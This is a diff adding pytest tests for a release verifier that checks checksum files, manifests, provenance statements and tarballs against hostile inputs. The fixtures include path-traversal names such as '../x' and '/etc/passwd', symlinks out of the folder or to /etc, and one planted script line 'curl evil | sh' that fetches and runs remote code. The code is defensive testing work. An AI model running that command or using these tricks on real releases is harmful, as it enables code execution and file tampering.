@@ -2,8 +2,13 @@
 
 from __future__ import annotations
 
+import gzip
+import io
 import json
+import re
 import subprocess
+import tarfile
+from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
@@ -467,3 +472,370 @@ def test_rebuild_of_a_file_that_is_not_sha256sums_refused(tmp_path: Path) -> Non
     tarball.write_bytes(tarball.read_bytes() + b"\0")
     with pytest.raises(CheckFailed, match=rf"{BASE}-pgo.tar.gz has sha256 {sha256_file(tarball)}, SHA256SUMS says"):
         rebuild.load_published(published.dist, "v1.0.0")
+
+
+# --- hostile inputs: SHA256SUMS lists exactly the release's files, the manifest's keys typed, tarballs checked ------
+
+
+def _add_line(published: Published, name: str, content: bytes) -> None:
+    """A SHA256SUMS line for ``name`` (the sha256 of ``content``), after the release's own lines."""
+    sums = published.dist / "SHA256SUMS"
+    sums.write_text(sums.read_text() + f"{sha256_bytes(content)}  {name}\n")
+
+
+@pytest.mark.parametrize(
+    ("name", "words"),
+    [
+        ("../x", "SHA256SUMS line 8 names '../x', a path with '..': a release lists only the files of its folder"),
+        ("/etc/passwd", "SHA256SUMS line 8 names '/etc/passwd', an absolute path"),
+        ("sub/x", "SHA256SUMS line 8 names 'sub/x', a path into a folder, not a file name"),
+        (".hidden", "SHA256SUMS line 8 names '.hidden', a hidden file"),
+        ("..", "SHA256SUMS line 8 names '..', a path with '..'"),
+    ],
+)
+def test_verify_a_sha256sums_line_that_is_not_a_file_of_the_folder_refused(
+    tmp_path: Path, name: str, words: str
+) -> None:
+    """The file is there and its sha256 is the line's: it is refused for its name, before anything is hashed."""
+    published = publish(tmp_path)
+    target = Path(name) if name.startswith("/") else published.dist / name
+    if not target.exists():
+        target.parent.mkdir(parents=True, exist_ok=True)
+        target.write_bytes(b"outside")
+    content = target.read_bytes() if target.is_file() else b""
+    _add_line(published, name, content)
+    line = refused(published, words, "download SHA256SUMS again from the release")
+    assert line.startswith("SHA256SUMS line 8"), line
+    with pytest.raises(CheckFailed, match=re.escape(words)):
+        rebuild.load_published(published.dist, "v1.0.0")
+
+
+def test_verify_an_extra_file_with_its_line_refused(tmp_path: Path) -> None:
+    published = publish(tmp_path)
+    (published.dist / "extra.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
+    published.resum()
+    words = "SHA256SUMS lists extra.sh, a file the release v1.0.0 does not make (it makes 7:"
+    refused(published, words, "remove the line and the file, or download the release again")
+    with pytest.raises(CheckFailed, match=re.escape(words)):
+        rebuild.load_published(published.dist, "v1.0.0")
+
+
+def test_verify_a_symlink_to_a_file_outside_refused(tmp_path: Path) -> None:
+    """As an extra line, and in place of one of the release's own files (its content the same)."""
+    published = publish(tmp_path)
+    outside = tmp_path / "outside.txt"
+    outside.write_text("secret\n")
+    (published.dist / "outside.txt").symlink_to(outside)
+    published.resum()
+    refused(published, "SHA256SUMS lists outside.txt, a file the release v1.0.0 does not make")
+    (published.dist / "outside.txt").unlink()
+    published.resum()
+    profile = published.dist / f"{BASE}-pgo.profdata"
+    moved = tmp_path / "profile-elsewhere"
+    profile.rename(moved)
+    profile.symlink_to(moved)
+    words = f"{BASE}-pgo.profdata in {published.dist} is a symbolic link (to {moved}), not a file of the release"
+    refused(published, words, "put the release's own files in the folder, not links")
+    with pytest.raises(CheckFailed, match=re.escape(words)):
+        rebuild.load_published(published.dist, "v1.0.0")
+
+
+def test_verify_a_listed_name_that_is_a_directory_refused(tmp_path: Path) -> None:
+    published = publish(tmp_path)
+    statement = published.statement(f"{BASE}-pgo.profdata")
+    statement.unlink()
+    statement.mkdir()
+    refused(published, f"{statement.name} in {published.dist} is not a regular file")
+
+
+def test_verify_a_sha256sums_that_is_a_symlink_refused(tmp_path: Path) -> None:
+    published = publish(tmp_path)
+    sums = published.dist / "SHA256SUMS"
+    elsewhere = tmp_path / "SHA256SUMS"
+    sums.rename(elsewhere)
+    sums.symlink_to(elsewhere)
+    refused(published, f"SHA256SUMS in {published.dist} is a symbolic link (to {elsewhere})")
+
+
+def test_verify_a_line_listed_twice_refused(tmp_path: Path) -> None:
+    published = publish(tmp_path)
+    sums = published.dist / "SHA256SUMS"
+    first = sums.read_text().splitlines(keepends=True)[0]
+    sums.write_text(sums.read_text() + first)
+    refused(published, f"SHA256SUMS line 8 lists {first.split()[1]} a second time")
+
+
+def test_verify_a_sha256sums_that_is_not_utf8_refused(tmp_path: Path) -> None:
+    published = publish(tmp_path)
+    sums = published.dist / "SHA256SUMS"
+    sums.write_bytes(sums.read_bytes() + b"\xff\xfe  caf\xe9.bin\n")
+    words = f"the checksum file {sums} is not UTF-8 text (byte 0xff on line 8"
+    refused(published, words, "download SHA256SUMS again")
+    with pytest.raises(CheckFailed, match=re.escape(words)):
+        rebuild.load_published(published.dist, "v1.0.0")
+
+
+def _edit_manifest(published: Published, edit: Callable[[dict[str, Any]], object]) -> None:
+    """The manifest changed by ``edit``, and SHA256SUMS made consistent with it."""
+    path = published.dist / f"{BASE}-manifest.json"
+    data = json.loads(path.read_text())
+    edit(data)
+    path.write_bytes(provenance.encode(data))
+    published.resum()
+
+
+@pytest.mark.parametrize(
+    ("edit", "words"),
+    [
+        pytest.param(lambda m: m.pop("triple"), "'triple' is missing", id="missing-key"),
+        pytest.param(
+            lambda m: m.update(source_date_epoch="1772600767"),
+            "'source_date_epoch' is the string '1772600767', not an integer",
+            id="wrong-type",
+        ),
+        pytest.param(lambda m: m.update(locked="yes"), "'locked' is the string 'yes', not true or false", id="bool"),
+        pytest.param(lambda m: m.update(features="fast"), "'features' is the string 'fast', not a list", id="list"),
+        pytest.param(lambda m: m.pop("toolchain"), "'toolchain' is missing", id="missing-object"),
+        pytest.param(lambda m: m["toolchain"].pop("cargo"), "toolchain: 'cargo' is missing", id="nested-missing"),
+        pytest.param(
+            lambda m: m["artefacts"]["pgo"].update(binary=5),
+            "artefacts: pgo: 'binary' is the number 5, not a string",
+            id="nested-type",
+        ),
+        pytest.param(
+            lambda m: m["artefacts"]["pgo"].update(binary_sha256="../../x"),
+            "artefacts: pgo: 'binary_sha256' is '../../x', not a sha256 (64 hex digits)",
+            id="not-a-sha256",
+        ),
+        pytest.param(lambda m: m["artefacts"].pop("profile"), "artefacts: 'profile' is missing", id="no-profile"),
+        pytest.param(
+            lambda m: m["artefacts"].update(evil={"file": "extra.sh", "sha256": "00" * 32}),
+            "artefacts: 'evil' is not an artefact a release makes",
+            id="unknown-artefact",
+        ),
+        pytest.param(
+            lambda m: m["artefacts"]["plain"].update(file="extra.sh"),
+            f"artefacts: plain: 'file' is 'extra.sh', the release names it '{BASE}.tar.gz'",
+            id="another-file-name",
+        ),
+        pytest.param(
+            lambda m: m["artefacts"]["pgo"].update(binary="../../etc/passwd"),
+            f"artefacts: pgo: 'binary' is '../../etc/passwd', the release packs {BASE}-pgo/hello-pgo",
+            id="another-binary-name",
+        ),
+        pytest.param(
+            lambda m: m["remap_path_prefix"].append("/x"), "'remap_path_prefix'[3] is not a pair of paths", id="remap"
+        ),
+        pytest.param(
+            lambda m: m.update(bolt={"bolt_args": []}), "'bolt' without the artefact 'pgo_bolt'", id="bolt-without"
+        ),
+        pytest.param(
+            lambda m: m["artefacts"].update(
+                pgo_bolt={
+                    **m["artefacts"]["pgo"],
+                    "file": f"{BASE}-pgo-bolt.tar.gz",
+                    "binary": f"{BASE}-pgo-bolt/hello-pgo",
+                }
+            ),
+            "artefacts: 'bolt_profile' is missing",
+            id="pgo-bolt-without-its-profile",
+        ),
+        pytest.param(lambda m: m.update(training=[]), "'training' is a list, not an object", id="training"),
+    ],
+)
+def test_a_manifest_with_a_missing_key_or_a_wrong_type_refused_by_verify_and_rebuild(
+    tmp_path: Path, edit: Callable[[dict[str, Any]], object], words: str
+) -> None:
+    published = publish(tmp_path)
+    _edit_manifest(published, edit)
+    line = refused(published, f"{BASE}-manifest.json: {words}")
+    assert line.endswith("(it is not a manifest nox -s release writes: download it again)"), line
+    with pytest.raises(CheckFailed, match=re.escape(f"{BASE}-manifest.json: {words}")):
+        rebuild.load_published(published.dist, "v1.0.0")
+
+
+def test_a_manifest_named_otherwise_than_its_release_refused(tmp_path: Path) -> None:
+    """Its bin, tag and triple name another manifest file (the artefacts renamed to match)."""
+    published = publish(tmp_path)
+    path = published.dist / f"{BASE}-manifest.json"
+    renamed = published.dist / f"hello-v1.0.0-{BASE.split('-v1.0.0-')[1]}-manifest.json"
+    path.rename(renamed)
+    published.resum()
+    words = f"the manifest {renamed.name} names the release {BASE}, whose manifest is {BASE}-manifest.json"
+    refused(published, words)
+    with pytest.raises(CheckFailed, match=re.escape(words)):
+        rebuild.load_published(published.dist, "v1.0.0")
+
+
+def test_a_bin_that_is_a_path_refused(tmp_path: Path) -> None:
+    published = publish(tmp_path)
+    _edit_manifest(published, lambda m: m.update(bin="../hello-pgo"))
+    refused(published, f"{BASE}-manifest.json: 'bin', 'tag' and 'triple' make '../{BASE}', a path with '..'")
+
+
+def _repack(published: Published, kind: str, members: list[tuple[tarfile.TarInfo, bytes]]) -> None:
+    """The artefact's tarball rewritten with ``members``, and the manifest's, the statements' and SHA256SUMS' sha256s
+    rewritten to match it: only the tarball's members tell."""
+    artefact = published.manifest["artefacts"][kind]
+    raw = io.BytesIO()
+    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
+        for info, data in members:
+            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
+    tarball = gzip.compress(raw.getvalue(), mtime=0)
+    (published.dist / artefact["file"]).write_bytes(tarball)
+    manifest = json.loads((published.dist / f"{BASE}-manifest.json").read_text())
+    manifest["artefacts"][kind]["sha256"] = sha256_bytes(tarball)
+    files = {name: (published.dist / name).read_bytes() for name in FILES}
+    files[f"{BASE}-manifest.json"] = provenance.encode(manifest)
+    for name, data in {**files, **provenance.release_statements(manifest, files, published.repo, ZIGBUILD)}.items():
+        (published.dist / name).write_bytes(data)
+    published.resum()
+
+
+def _info(name: str, kind: bytes = tarfile.REGTYPE, size: int = 0, **attrs: Any) -> tarfile.TarInfo:
+    info = tarfile.TarInfo(name)
+    info.type, info.size, info.mode, info.mtime = kind, size, 0o755, 1772600767
+    for key, value in attrs.items():
+        setattr(info, key, value)
+    return info
+
+
+def test_verify_a_tarball_whose_members_were_rewritten_refused(tmp_path: Path) -> None:
+    """The binary the manifest records, beside a symbolic link out of the folder; every sha256 made to match."""
+    published = publish(tmp_path)
+    top = f"{BASE}-pgo"
+    binary = b"\x7fELF pgo binary"
+    members = [
+        (_info(top, tarfile.DIRTYPE), b""),
+        (_info(f"{top}/hello-pgo", size=len(binary)), binary),
+        (_info(f"{top}/lib", tarfile.SYMTYPE, linkname="/etc"), b""),
+    ]
+    _repack(published, "pgo", members)
+    refused(published, f"{top}.tar.gz holds '{top}/lib', a symbolic link to '/etc'", "download the release again")
+    _repack(published, "pgo", [*members[:2], (_info(f"{top}/hello-pgo.sh", size=2), b"sh")])
+    refused(published, f"{top}.tar.gz holds '{top}/hello-pgo.sh', which the release does not put in it")
+    _repack(published, "pgo", [members[0], (_info(f"{top}/hello-pgo", size=len(binary), uid=1000), binary)])
+    refused(published, f"{top}.tar.gz has '{top}/hello-pgo' owned by uid 1000 gid 0")
+
+
+def test_verify_a_tarball_that_is_not_one_refused(tmp_path: Path) -> None:
+    published = publish(tmp_path)
+    name = f"{BASE}-pgo.tar.gz"
+    tarball = published.dist / name
+    tarball.write_bytes(tarball.read_bytes()[:-20])
+    _edit_manifest(published, lambda m: m["artefacts"]["pgo"].update(sha256=sha256_file(tarball)))
+    files = {n: (published.dist / n).read_bytes() for n in FILES}
+    manifest = json.loads((published.dist / f"{BASE}-manifest.json").read_text())
+    for n, data in provenance.release_statements(manifest, files, published.repo, ZIGBUILD).items():
+        (published.dist / n).write_bytes(data)
+    published.resum()
+    refused(published, f"{name} is not a whole .tar.gz: the gzip stream ends early (truncated)")
+
+
+@pytest.mark.parametrize(
+    ("edit", "words"),
+    [
+        pytest.param(
+            lambda s: s["predicate"].update(buildDefinition=[]),
+            "records no zig and cargo-zigbuild",  # read from there: not found in a list
+            id="definition-a-list",
+        ),
+        pytest.param(
+            lambda s: s["predicate"]["buildDefinition"].update(resolvedDependencies={"a": 1}),
+            "records no zig and cargo-zigbuild",
+            id="dependencies-an-object",
+        ),
+        pytest.param(
+            lambda s: s["predicate"]["buildDefinition"]["resolvedDependencies"].append({"name": ["x"]}),
+            "predicate.buildDefinition.resolvedDependencies is [",
+            id="a-name-that-is-a-list",
+        ),
+        pytest.param(
+            lambda s: [
+                d.pop("digest")
+                for d in s["predicate"]["buildDefinition"]["resolvedDependencies"]
+                if d["name"] == "hello/Cargo.lock"
+            ],
+            "predicate.buildDefinition.resolvedDependencies is [",
+            id="a-lock-without-digest",
+        ),
+        pytest.param(
+            lambda s: s.update(subject="x"), 'subject is "x", the artefact and the manifest say [', id="subject"
+        ),
+    ],
+)
+def test_verify_a_statement_of_wrong_types_refused(
+    tmp_path: Path, edit: Callable[[dict[str, Any]], object], words: str
+) -> None:
+    published = publish(tmp_path)
+    path = published.statement(f"{BASE}-pgo.profdata")
+    data = json.loads(path.read_text())
+    edit(data)
+    path.write_text(json.dumps(data))
+    published.resum()
+    refused(published, f"{BASE}-pgo.profdata.intoto.json", words)
+
+
+def test_verify_and_rebuild_of_a_folder_that_is_a_dangling_link_or_a_file_refused(tmp_path: Path) -> None:
+    published = publish(tmp_path)
+    link = tmp_path / "link"
+    link.symlink_to(tmp_path / "gone")
+    words = f"no artefacts of v1.0.0 at {link}: it is a dangling symbolic link (to {tmp_path / 'gone'})"
+    with pytest.raises(MissingInput, match=re.escape(words)):
+        provenance.verify("v1.0.0", link, published.repo, clean_env())
+    with pytest.raises(MissingInput, match=re.escape(words)):
+        rebuild.load_published(link, "v1.0.0")
+    afile = tmp_path / "afile"
+    afile.write_text("x")
+    with pytest.raises(MissingInput, match=re.escape(f"no artefacts of v1.0.0 at {afile}: it is not a directory")):
+        provenance.verify("v1.0.0", afile, published.repo, clean_env())
+
+
+def _bolt_manifest() -> dict[str, Any]:
+    """The manifest of a release with PGO_BOLT=1, as recipes/release.py's _bolt_artefact adds to it."""
+    data = manifest()
+    data["bolt"] = {
+        "profile_store_path": "/tmp/hello-pgo-pgo/" + "ef" * 32 + ".fdata",
+        "profile_sha256": "ef" * 32,
+        "llvm_bolt": "LLVM 22.1.8 (/usr/bin/llvm-bolt-22)",
+        "llvm_strip": "LLVM 22.1.8 (/usr/bin/llvm-strip-22)",
+        "bolt_args": ["-reorder-blocks=ext-tsp"],
+        "emit_relocs": True,
+        "profile": {
+            "functions_with_profile": 40,
+            "total_functions": 900,
+            "profile_branches": 1,
+            "profile_functions": 2,
+        },
+    }
+    data["artefacts"]["pgo_bolt"] = {
+        "file": f"{BASE}-pgo-bolt.tar.gz",
+        "sha256": "aa" * 32,
+        "binary": f"{BASE}-pgo-bolt/hello-pgo",
+        "binary_sha256": "bb" * 32,
+    }
+    data["artefacts"]["bolt_profile"] = {"file": f"{BASE}-pgo-bolt.fdata", "sha256": "ef" * 32}
+    return data
+
+
+def test_check_manifest_of_a_bolt_release_and_its_files() -> None:
+    names = provenance.check_manifest(_bolt_manifest(), "m.json")
+    assert provenance.release_files(_bolt_manifest(), names) == {
+        f"{BASE}-manifest.json": "the manifest",
+        **{f"{BASE}{end}": f"the {kind} artefact" for kind, end in (("plain", ".tar.gz"), ("pgo", "-pgo.tar.gz"))},
+        **{f"{BASE}{end}": f"the {kind} artefact" for kind, end in (("profile", "-pgo.profdata"),)},
+        f"{BASE}-pgo-bolt.tar.gz": "the pgo_bolt artefact",
+        f"{BASE}-pgo-bolt.fdata": "the bolt_profile artefact",
+        **{
+            f"{BASE}{end}.intoto.json": f"the provenance statement of {BASE}{end}"
+            for end in (".tar.gz", "-pgo.tar.gz", "-pgo.profdata", "-pgo-bolt.tar.gz", "-pgo-bolt.fdata")
+        },
+    }
+    data = _bolt_manifest()
+    data["bolt"]["profile"]["total_functions"] = "900"
+    with pytest.raises(CheckFailed, match=r"m.json: bolt: profile: 'total_functions' is the string '900', not an"):
+        provenance.check_manifest(data, "m.json")
+    data = _bolt_manifest()
+    del data["bolt"]
+    with pytest.raises(CheckFailed, match=r"m.json: 'bolt' is missing"):
+        provenance.check_manifest(data, "m.json")
